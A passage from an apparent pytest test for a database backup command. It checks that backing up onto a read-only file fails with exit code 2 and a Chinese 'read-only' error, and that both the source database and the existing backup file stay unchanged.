    kept = tmp_path / "old-backup.sqlite3"
    kept.write_bytes(b"an old backup")
    kept.chmod(0o444)
    proc = run("backup", "--to", kept, db=demo)
    assert proc.returncode == 2 and "只读" in proc.stderr, proc.stderr
    assert _digest(demo) == before and kept.read_bytes() == b"an old backup"
